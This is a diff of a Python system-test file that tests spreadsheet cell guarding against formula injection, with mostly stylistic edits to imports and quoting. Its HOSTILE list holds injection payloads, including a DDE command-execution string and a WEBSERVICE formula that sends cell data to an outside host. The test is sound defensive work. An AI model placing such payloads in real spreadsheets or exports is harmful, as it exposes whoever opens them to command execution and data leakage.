@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import subprocess
-from pathlib import Path
+from typing import TYPE_CHECKING
 from xml.etree import ElementTree as ET
 
 import pytest
 
 from reader.model.cells import guard, unguard
 from reader.project import Project
+
+if TYPE_CHECKING:
+    from pathlib import Path
 
 pytestmark = pytest.mark.system
 
@@ -20,14 +23,14 @@ HOSTILE = (
     "=1+1",
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://example.org","click")',
-    "=WEBSERVICE(\"http://example.org/\"&A1)",
+    '=WEBSERVICE("http://example.org/"&A1)',
     "+1+1",
     "-2+3",
     "@SUM(1+1)",
-    "=DDE(\"soffice\";\"x\";\"y\")",
+    '=DDE("soffice";"x";"y")',
     "'=1+1",
     "''quoted",
-    "＝1+1",  # noqa: RUF001 - the full-width sign is the attack
+    "＝1+1",
 )
 
 
